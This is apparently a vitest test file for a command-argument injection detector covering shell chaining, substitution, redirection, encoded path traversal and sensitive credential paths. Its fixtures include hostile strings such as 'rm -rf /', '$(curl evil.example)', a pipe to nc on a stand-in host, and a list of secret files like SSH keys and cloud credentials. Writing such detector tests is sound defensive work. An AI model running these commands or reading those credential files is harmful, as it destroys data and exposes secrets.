/**
 * Command-argument checks: each shell metacharacter class, traversal in every encoding and the
 * sensitive paths are reported with their rule and severity; ordinary arguments are not; long
 * hostile values stay linear.
 */
import { describe, expect, it } from 'vitest';
import { decodePath, detectCommandArgs } from '../../src/detect/command.js';

const rulesOf = (v: string): string[] => detectCommandArgs(v).map((f) => f.rule);

describe('command: shell metacharacters', () => {
  const cases: [value: string, rule: string, severity: string, span: string][] = [
    ['file.txt; rm -rf /', 'command.chaining', 'high', ';'],
    ['a && curl evil.example', 'command.chaining', 'high', '&&'],
    ['a || true', 'command.chaining', 'high', '||'],
    ['cat x | nc evil.example 80', 'command.chaining', 'high', '|'],
    ['sleep 100 &', 'command.chaining', 'high', '&'],
    ['`id`', 'command.substitution', 'critical', '`'],
    ['$(curl evil.example)', 'command.substitution', 'critical', '$('],
    ['${IFS}cat', 'command.substitution', 'critical', '${'],
    ['diff <(ls a) b', 'command.substitution', 'critical', '<('],
    ['x > /tmp/out', 'command.redirection', 'medium', '>'],
    ['x >> log', 'command.redirection', 'medium', '>>'],
    ['x 2> err', 'command.redirection', 'medium', '2>'],
    ['mail < /etc/hosts', 'command.redirection', 'medium', '<'],
    ['name\nrm -rf /', 'command.newline', 'high', '\n'],
    ['name\r\nx', 'command.newline', 'high', '\r'],
    ['a\u0000b', 'command.nul', 'high', '\u0000'],
  ];
  for (const [value, rule, severity, span] of cases) {
    it(`${rule} in ${JSON.stringify(value)}`, () => {
      const f = detectCommandArgs(value).find((x) => x.rule === rule);
      expect(f, JSON.stringify(detectCommandArgs(value))).toBeDefined();
      expect(f!.severity).toBe(severity);
      expect(f!.kind).toBe('command');
      expect(value.slice(f!.start, f!.end)).toBe(span);
    });
  }
});

describe('command: path traversal in every encoding', () => {
  const traversals = [
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    'docs/../../secret',
    'a/..',
    '%2e%2e%2fetc%2fpasswd',
    '%2E%2E%2F%2E%2E%2F',
    '..%2f..%2f',
    '%2e%2e/',
    '..%5c..%5c',
    '%252e%252e%252f',
    '%25252e%25252e%25252f',
    '%c0%ae%c0%ae%c0%af',
    '%c0%ae%c0%ae/',
    '..%c0%af',
    '..%c1%9c',
    '%u002e%u002e%u002f',
    '．．／etc/passwd',
    'file=../x',
  ];
  for (const v of traversals) {
    it(`traversal: ${v}`, () => {
      expect(rulesOf(v)).toContain('command.path-traversal');
    });
  }
  it('decodePath: nested and overlong encodings decode to dots and slashes', () => {
    expect(decodePath('%252e%252e%252f')).toBe('../');
    expect(decodePath('%c0%ae%c0%ae%c0%af')).toBe('../');
    expect(decodePath('．．／')).toBe('../');
    expect(decodePath('..\\a')).toBe('../a');
  });
});

describe('command: sensitive paths', () => {
  const paths: [string, string][] = [
    ['~/.ssh/id_rsa', 'high'],
    ['/home/me/.ssh/authorized_keys', 'high'],
    ['id_ed25519', 'high'],
    ['.env', 'high'],
    ['/srv/app/.env.production', 'high'],
    ['/etc/shadow', 'high'],
    ['/etc/passwd', 'high'],
    ['C:\\Users\\me\\.aws\\credentials', 'high'],
    ['~/.aws/credentials', 'high'],
    ['~/.kube/config', 'high'],
    ['/Users/me/Library/Application Support/Claude/claude_desktop_config.json', 'high'],
    ['.cursor/mcp.json', 'high'],
    ['~/.git-credentials', 'high'],
    ['~/.netrc', 'high'],
    ['/proc/self/environ', 'high'],
    ['/var/run/secrets/kubernetes.io/serviceaccount/token', 'high'],
    ['server.key', 'high'],
    ['~/.bash_history', 'medium'],
    ['%2fetc%2fshadow', 'high'],
    ['cat /etc/passwd', 'high'],
  ];
  for (const [p, severity] of paths) {
    it(`sensitive: ${p}`, () => {
      const f = detectCommandArgs(p).find((x) => x.rule === 'command.sensitive-path');
      expect(f, p).toBeDefined();
      expect(f!.severity).toBe(severity);
    });
  }
});

describe('command: ordinary arguments pass', () => {
  const ok = [
    'README.md',
    'src/index.ts',
    '/srv/data/report-2026.csv',
    'hello world',
    'The quick brown fox.',
    'v1.2.3',
    'file...txt',
    'a.b.c',
    'environment',
    '/etc/hostname',
    'keys.txt',
    'https://example.com/path?q=1',
    '...',
  ];
  for (const v of ok) it(`passes: ${JSON.stringify(v)}`, () => expect(detectCommandArgs(v)).toEqual([]));
});

describe('command: adversarial inputs stay linear', () => {
  const cases: [string, string][] = [
    ['1 MB of ;', ';'.repeat(1_000_000)],
    ['1 MB of %25', '%25'.repeat(340_000)],
    ['1 MB of ../', '../'.repeat(340_000)],
    ['1 MB of path segments', 'a/'.repeat(500_000)],
  ];
  for (const [name, v] of cases) {
    it(`${name} within 3 s, findings capped`, () => {
      const t0 = performance.now();
      const found = detectCommandArgs(v);
      expect(performance.now() - t0).toBeLessThan(3_000);
      expect(found.length).toBeLessThanOrEqual(200);
    });
  }
});
